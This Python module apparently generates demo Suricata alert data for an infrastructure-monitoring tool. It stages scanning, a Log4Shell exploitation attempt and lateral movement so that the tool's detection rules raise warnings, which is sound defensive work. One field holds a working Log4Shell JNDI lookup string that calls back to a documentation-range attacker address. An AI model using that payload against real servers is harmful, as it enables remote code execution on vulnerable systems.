"""Demo alert history (监测演示数据): a few days of Suricata EVE alerts on the demo operator's assets, and
one staged attack — reconnaissance → exploitation of Log4Shell (CVE-2021-44228) on a CII system's
server that runs the vulnerable log4j-core 2.14.1 → lateral movement from it — imported through the
real alert import (mapping, grouping, intelligence matching) so the real warning rules and the bundled
Sigma rules raise warnings.

Every line is shaped like the real EVE alert sample shipped in ``demo/data/telegraf_v2_alert.json``
(influxdata/telegraf, MIT: the field layout with ``alert.source``/``alert.target`` and ``flow``), with
its addresses, ports, times and signature rewritten. The signatures are a hand-written list of
well-known public ET Open signature names and ids (the GPL-licensed samples in shared/ are test
fixtures only and are not shipped). Deterministic: the same seed and ``now`` give the same file.
"""

from __future__ import annotations

import datetime as dt
import json
import random
import tempfile
from pathlib import Path
from typing import Any

from sqlalchemy import delete, select
from sqlalchemy.orm import Session

from ciimap.alerts.models import Alert, AlertGroup, AlertWarning
from ciimap.ingest.service import import_files
from ciimap.inventory.models import Asset, NetworkZone, Software, System

SAMPLE = Path(__file__).with_name("data") / "telegraf_v2_alert.json"
DAYS = 3
#: Persistent background sources (about 3,500 lines over the days with the one-off alerts).
CAMPAIGNS = 12
#: (signature id, signature, category, suricata severity, destination port, weight); external → DMZ.
BACKGROUND = (
    (2001219, "ET SCAN Potential SSH Scan", "Attempted Information Leak", 2, 22, 8),
    (2010935, "ET SCAN Suspicious inbound to MSSQL port 1433", "Potentially Bad Traffic", 2, 1433, 5),
    (2010937, "ET SCAN Suspicious inbound to mySQL port 3306", "Potentially Bad Traffic", 2, 3306, 4),
    (2002910, "ET SCAN Potential VNC Scan 5800-5820", "Attempted Information Leak", 2, 5800, 3),
    (2008578, "ET SCAN Sipvicious Scan", "Attempted Information Leak", 2, 5060, 3),
    (2024897, "ET USER_AGENTS Go HTTP Client User-Agent", "Misc activity", 3, 80, 6),
    (2013028, "ET POLICY curl User-Agent Outbound", "Attempted Information Leak", 3, 443, 4),
    (2019401, "ET POLICY Vulnerable Java Version 1.8.x Detected", "Potentially Bad Traffic", 2, 80, 2),
    (6, "Corrupted HTTP body", "Misc activity", 3, 80, 3),
    (2100498, "GPL ATTACK_RESPONSE id check returned root", "Potentially Bad Traffic", 2, 80, 1),
)
#: Documentation address ranges (RFC 5737) as the internet's scanners: never a real host.
ATTACKERS = [f"198.51.100.{i}" for i in range(10, 60)] + [f"192.0.2.{i}" for i in range(20, 40)]
RECON = (2009582, "ET SCAN NMAP -sS window 1024", "Attempted Information Leak", 2)
EXPLOIT = (
    2034647,
    "ET EXPLOIT Apache log4j RCE Attempt (tcp ldap) (CVE-2021-44228)",
    "Attempted Administrator Privilege Gain",
    1,
)
CALLBACK = (
    2034755,
    "ET EXPLOIT Possible Apache log4j RCE Attempt - 2021/12/12 Obfuscation",
    "A Network Trojan was detected",
    1,
)
LATERAL = (2025700, "ET POLICY PsExec service created via SMB", "Potentially Bad Traffic", 1)
SMB = (
    2024218,
    "ET EXPLOIT Possible ETERNALBLUE MS17-010 SMB Echo Request",
    "Attempted Administrator Privilege Gain",
    1,
)
STAGED_ATTACKER = "198.51.100.77"


def _template() -> dict[str, Any]:
    data: dict[str, Any] = json.loads(SAMPLE.read_text(encoding="utf-8"))
    return data


def _line(
    tpl: dict[str, Any],
    t: dt.datetime,
    flow: int,
    sig: tuple[Any, ...],
    src: str,
    sport: int,
    dst: str,
    dport: int,
    extra: dict[str, Any] | None = None,
) -> str:
    ev = {**tpl, "alert": dict(tpl["alert"]), "flow": dict(tpl["flow"])}  # what is rewritten is copied
    stamp = t.strftime("%Y-%m-%dT%H:%M:%S.%f+0000")
    ev.update(timestamp=stamp, flow_id=flow, src_ip=src, src_port=sport, dest_ip=dst, dest_port=dport)
    ev["in_iface"] = "eth1"
    a = ev["alert"]
    a.update(signature_id=sig[0], signature=sig[1], category=sig[2], severity=sig[3], rev=1)
    a["source"] = {"ip": src, "port": sport}
    a["target"] = {"ip": dst, "port": dport}
    ev["flow"]["start"] = stamp
    if extra:
        ev.update(extra)
    return json.dumps(ev, ensure_ascii=False, separators=(",", ":"))


def _targets(session: Session) -> dict[str, Any]:
    """Internet-facing and internal assets with an address; the staged attack's victim: a server of a
    CII system running log4j-core 2.14.1 (else any CII system's server)."""
    zones = dict(session.execute(select(NetworkZone.id, NetworkZone.internet_facing)).tuples().all())
    facing: list[tuple[int, str]] = []
    internal: list[tuple[int, str, int | None]] = []
    for aid, ip, zid, sid in session.execute(
        select(Asset.id, Asset.primary_ip, Asset.zone_id, Asset.system_id)
        .where(Asset.primary_ip.is_not(None))
        .order_by(Asset.id)
    ).tuples():
        if ip is None:
            continue
        if zid is not None and zones.get(zid):
            facing.append((aid, ip))
        else:
            internal.append((aid, ip, sid))
    cii = set(session.scalars(select(System.id).where(System.is_cii.is_(True))))
    vulnerable = set(
        session.scalars(
            select(Software.asset_id).where(
                Software.purl == "pkg:maven/org.apache.logging.log4j/log4j-core@2.14.1"
            )
        )
    )
    candidates = [x for x in internal if x[2] in cii and x[0] in vulnerable] or [
        x for x in internal if x[2] in cii
    ]
    victim = candidates[0] if candidates else internal[0]
    return {
        "facing": facing or [(a, ip) for a, ip, _s in internal[:20]],
        "internal": internal,
        "victim": victim,
    }


def write_history(session: Session, path: Path, *, seed: int, now: dt.datetime) -> dict[str, Any]:
    """Write the EVE file: background alerts over :data:`DAYS` days and the staged attack ending an
    hour before ``now``. Returns what was staged (for the summary and the tests)."""
    rnd = random.Random(f"alerts-{seed}")
    tpl = _template()
    tg = _targets(session)
    facing, internal, victim = tg["facing"], tg["internal"], tg["victim"]
    start = (now - dt.timedelta(days=DAYS)).replace(minute=0, second=0, microsecond=0)
    weights = [b[5] for b in BACKGROUND]
    lines: list[tuple[dt.datetime, str]] = []
    flow = 1_000_000_000_000
    hours = DAYS * 24
    # persistent sources (a scanner, a misbehaving client) hit the same few hosts with one rule, hour
    # after hour: they become a few hundred groups with counts; one-off alerts add noise
    campaigns = []
    for k in range(CAMPAIGNS):
        sig = rnd.choices(BACKGROUND, weights=weights)[0]
        hosts = [facing[min(int(rnd.expovariate(0.1)), len(facing) - 1)][1] for _ in range(rnd.randint(1, 3))]
        campaigns.append((ATTACKERS[k % len(ATTACKERS)], sig, hosts, rnd.uniform(2.0, 6.0)))
    for h in range(hours):
        hour = start + dt.timedelta(hours=h)
        busy = 1.5 if 8 <= (hour.hour + 8) % 24 <= 20 else 0.7  # the site's day (UTC+8) is busier
        events: list[tuple[tuple[Any, ...], str, str]] = []
        for src, sig, hosts, rate in campaigns:
            n = int(rnd.expovariate(1 / (rate * busy)) + 0.5)
            events += [(sig, src, rnd.choice(hosts)) for _ in range(n)]
        for _ in range(rnd.randint(0, 3)):
            sig = rnd.choices(BACKGROUND, weights=weights)[0]
            events.append((sig, rnd.choice(ATTACKERS), rnd.choice(facing)[1]))
        for sig, src, dst in events:
            t = hour + dt.timedelta(seconds=rnd.randrange(3600))
            flow += 1
            lines.append((t, _line(tpl, t, flow, sig, src, rnd.randrange(1024, 65535), dst, sig[4])))
    # the staged attack, ending an hour before now
    t0 = now - dt.timedelta(hours=3)
    staged: dict[str, Any] = {
        "attacker": STAGED_ATTACKER,
        "victim_asset_id": victim[0],
        "victim_ip": victim[1],
    }
    recon = facing[:12] + [(a, ip) for a, ip, _s in internal if a == victim[0]]
    for i, (_aid, ip) in enumerate(recon):  # 1. reconnaissance: one attacker sweeping 13 hosts
        for port in (22, 80, 443, 8080):
            t = t0 + dt.timedelta(seconds=i * 40 + port % 37)
            flow += 1
            lines.append((t, _line(tpl, t, flow, RECON, STAGED_ATTACKER, 40000 + i, ip, port)))
    t1 = t0 + dt.timedelta(minutes=25)
    for i in range(6):  # 2. exploitation of Log4Shell on the CII server running log4j-core 2.14.1
        t = t1 + dt.timedelta(seconds=30 * i)
        flow += 1
        http = {
            "http": {
                "hostname": victim[1],
                "url": "/api/login",
                "http_user_agent": "${jndi:ldap://198.51.100.77:1389/a}",
                "http_method": "GET",
            }
        }
        lines.append((t, _line(tpl, t, flow, EXPLOIT, STAGED_ATTACKER, 51000 + i, victim[1], 8080, http)))
    t = t1 + dt.timedelta(minutes=4)
    flow += 1
    lines.append((t, _line(tpl, t, flow, CALLBACK, victim[1], 45123, STAGED_ATTACKER, 1389)))
    t2 = t1 + dt.timedelta(minutes=40)
    # 8 servers of other systems, spread over the map
    others = [x for x in internal if x[0] != victim[0] and x[2] is not None]
    lateral = others[:: max(len(others) // 8, 1)][:8]
    for i, (_aid, ip, _sid) in enumerate(lateral):  # 3. lateral movement from the compromised server
        for j, move in enumerate((SMB, LATERAL)):
            t = t2 + dt.timedelta(seconds=90 * i + 20 * j)
            flow += 1
            lines.append((t, _line(tpl, t, flow, move, victim[1], 49700 + i, ip, 445)))
    staged["lateral_targets"] = [a for a, _ip, _s in lateral]
    lines.sort(key=lambda x: x[0])
    with path.open("w", encoding="utf-8") as f:
        for _t, text in lines:
            f.write(text + "\n")
    staged["lines"] = len(lines)
    return staged


def load_history(session: Session, *, seed: int, now: dt.datetime, reset: bool = False) -> dict[str, Any]:
    """Write and import the demo alert history in the caller's transaction (one import run)."""
    if reset:  # the map was replaced: alerts of the old map would point at other assets
        for model in (Alert, AlertGroup, AlertWarning):
            session.execute(delete(model))
    session.flush()
    with tempfile.TemporaryDirectory(prefix="ciimap-demo-alerts-") as tmp:
        path = Path(tmp) / "demo-eve.json"
        staged = write_history(session, path, seed=seed, now=now)
        result = import_files(session, kind="suricata", paths=[path], options={})
    data = dict(result)
    warns = session.execute(select(AlertWarning.level, AlertWarning.rule)).tuples().all()
    staged["events"] = data.get("events")
    staged["warnings"] = sorted({f"{lv}:{rule}" for lv, rule in warns})
    return staged
